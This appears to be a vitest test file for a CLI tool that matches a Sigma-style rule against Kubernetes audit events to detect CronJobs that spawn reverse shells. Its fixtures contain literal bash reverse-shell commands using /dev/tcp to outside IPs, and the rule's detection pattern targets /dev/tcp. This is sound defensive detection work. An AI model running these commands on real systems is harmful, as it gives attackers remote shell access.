import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { matchEvents } from '../../src/cli/commands/match.js';
import { capture } from './capture.js';

const RULE = `title: CronJob with reverse shell
id: 3f1f2b4e-5c6d-4e7f-8a9b-0c1d2e3f4a5b
level: high
tags: [attack.persistence, attack.t1053.007]
logsource: {product: kubernetes, service: audit}
detection:
  selection:
    verb: create
    objectRef.resource: cronjobs
  shell:
    requestObject.spec.jobTemplate.spec.template.spec.containers.args|contains: /dev/tcp/
  condition: selection and shell
`;

function cronjobEvent(args: string[], auditID: string): string {
  return JSON.stringify({
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    auditID,
    stage: 'ResponseComplete',
    verb: 'create',
    objectRef: {
      resource: 'cronjobs',
      namespace: 'default',
      name: 'x',
      apiGroup: 'batch',
      apiVersion: 'v1',
    },
    requestObject: {
      spec: {
        schedule: '*/5 * * * *',
        jobTemplate: {
          spec: { template: { spec: { containers: [{ name: 'c', image: 'alpine', args }] } } },
        },
      },
    },
  });
}

describe('match', () => {
  it('prints each match with evidence, skips bad lines with file:line, exits 1 under --fail-on-match', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'cw-match-'));
    writeFileSync(join(dir, 'rule.yml'), RULE);
    const events = join(dir, 'audit.jsonl');
    writeFileSync(
      events,
      [
        cronjobEvent(['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'], 'evil'),
        '{"truncated":',
        cronjobEvent(['sh', '-c', 'echo hello'], 'benign'),
      ].join('\n'),
    );
    const { result, stdout, stderr } = await capture(() =>
      matchEvents([events], { rules: [join(dir, 'rule.yml')], maxErrors: 20, failOnMatch: true }),
    );
    expect(result).toBe(1);
    const lines = stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatchObject({
      line: 1,
      auditID: 'evil',
      rule: { id: '3f1f2b4e-5c6d-4e7f-8a9b-0c1d2e3f4a5b', level: 'high' },
      selections: ['selection', 'shell'],
    });
    expect(lines[0]!['evidence']).toContainEqual({
      selection: 'shell',
      field: 'requestObject.spec.jobTemplate.spec.template.spec.containers.args',
      value: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
      pattern: 'contains:"/dev/tcp/"',
    });
    expect(stderr).toContain(`${events}:2: skipped: invalid JSON`);
    expect(stderr).toContain('2 events, 1 matches, 1 bad lines skipped');
  });

  it('exits 2 under --strict when a rule fails to load', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'cw-match-'));
    writeFileSync(join(dir, 'rule.yml'), RULE.replace('|contains', '|contians'));
    writeFileSync(join(dir, 'e.jsonl'), '{}\n');
    const { result } = await capture(() =>
      matchEvents([join(dir, 'e.jsonl')], {
        rules: [join(dir, 'rule.yml')],
        strict: true,
        maxErrors: 20,
      }),
    );
    expect(result).toBe(2);
  });
});

describe('match exit status', () => {
  it('is 0 when events were evaluated, matches or not, without --fail-on-match', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'cw-match-'));
    writeFileSync(join(dir, 'rule.yml'), RULE);
    writeFileSync(join(dir, 'e.jsonl'), cronjobEvent(['bash -i >& /dev/tcp/1.2.3.4/1 0>&1'], 'x'));
    const { result, stdout } = await capture(() =>
      matchEvents([join(dir, 'e.jsonl')], { rules: [join(dir, 'rule.yml')], maxErrors: 20 }),
    );
    expect(stdout).toContain('"auditID":"x"');
    expect(result).toBe(0);
  });
});
